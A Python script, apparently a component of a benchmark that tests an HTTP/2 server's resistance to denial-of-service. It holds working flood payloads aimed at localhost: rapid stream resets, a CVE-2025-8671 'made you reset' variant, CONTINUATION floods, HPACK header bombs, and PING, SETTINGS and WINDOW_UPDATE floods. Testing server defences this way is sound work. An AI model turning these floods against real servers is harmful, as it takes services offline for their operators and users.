"""An attacker by itself: floods of HTTP/2 frames on one connection after the other.

    flooder.py PORT NAME PAUSE

Each connection is flooded until the other side ends it; `PAUSE` seconds later comes the next. Ends when its
input does, and then prints how many connections it had and how many of them ended with GOAWAY. A process of
its own, so that it takes nothing from the clock and the interpreter of those that are measured, and idle to the
scheduler: attackers have machines of their own, so this one runs only where nobody else wants to.
"""

import contextlib
import json
import os
import select
import socket
import struct
import sys
import time

HOST = "127.0.0.1"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
# GET http / of authority "h": static table entries, and a literal.
GET = b"\x82\x86\x84\x41\x01h"


def frame(kind, flags=0, stream=0, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def many(make, first=1):
    """Frames of one stream after the other, thirty-two streams a piece."""
    stream = first
    while True:
        yield b"".join(make(it) for it in range(stream, stream + 64, 2))
        stream += 64


def forever(piece, first=b""):
    if first:
        yield first
    while True:
        yield piece


def pings():
    return forever(frame(PING, payload=b"12345678") * 500)


def settings():
    return forever(frame(SETTINGS) * 500)


def window_updates():
    return forever(frame(WINDOW_UPDATE, payload=b"\0\0\0\x01") * 500)


def rapid_resets():
    reset = b"\0\0\0\x08"
    return many(lambda it: frame(HEADERS, END_HEADERS | END_STREAM, it, GET) + frame(RST, 0, it, reset))


def made_resets():
    """Streams whose own errors make the other side reset them (CVE-2025-8671)."""
    head = GET + b"\x0f\x0d\x011"  # content-length: 1
    return many(lambda it: frame(HEADERS, END_HEADERS, it, head) + frame(DATA, 0, it, b"two"))


def continuations():
    more = frame(CONTINUATION, 0, 1, b"\x40\x01a\x7f\x81\x7f" + b"b" * 254) * 8
    return forever(more, frame(HEADERS, END_STREAM, 1, GET))


def bombs():
    """A large field kept in the table and named by a byte each time: heads that unfold."""
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, GET + b"\x40\x01b\x7f\xb9\x16" + b"b" * 3000)
    yield from many(lambda it: frame(HEADERS, END_HEADERS | END_STREAM, it, GET + b"\xbe" * 16000), 3)


def empty_data():
    return forever(frame(DATA, 0, 1) * 500, frame(HEADERS, END_HEADERS, 1, GET))


FLOODS = {f.__name__: f for f in (pings, settings, window_updates, rapid_resets, made_resets, continuations, bombs, empty_data)}


def kinds(received):
    found = []
    while len(received) >= 9:
        length = int.from_bytes(received[:3], "big")
        found.append(received[3])
        received = received[9 + length :]
    return found


def attack(port, flood, over):
    """One connection, to its end; whether it was ended with GOAWAY. The reset behind one may overtake it."""
    received = b""
    with contextlib.suppress(OSError), socket.create_connection((HOST, port), timeout=5) as sock:
        sock.sendall(PREFACE + frame(SETTINGS))
        sock.setblocking(False)
        for piece in flood():
            while piece and not over():
                ready = select.select([sock], [sock], [], 0.1)
                if ready[0]:
                    data = sock.recv(1 << 16)
                    if not data:
                        return GOAWAY in kinds(received)
                    received += data
                if ready[1]:
                    piece = piece[sock.send(piece) :]
            if over() or GOAWAY in kinds(received):
                break
    return GOAWAY in kinds(received)


def main():
    port, name, pause = int(sys.argv[1]), sys.argv[2], float(sys.argv[3])
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))

    def over():
        return bool(select.select([sys.stdin], [], [], 0)[0])

    told, begun = [], time.monotonic()
    while not over():
        told.append(attack(port, FLOODS[name], over))
        time.sleep(pause)
    cpu = time.process_time() / (time.monotonic() - begun)
    print(json.dumps({"connections": len(told), "goaways": sum(told), "cpu": round(cpu, 2)}))


if __name__ == "__main__":
    main()
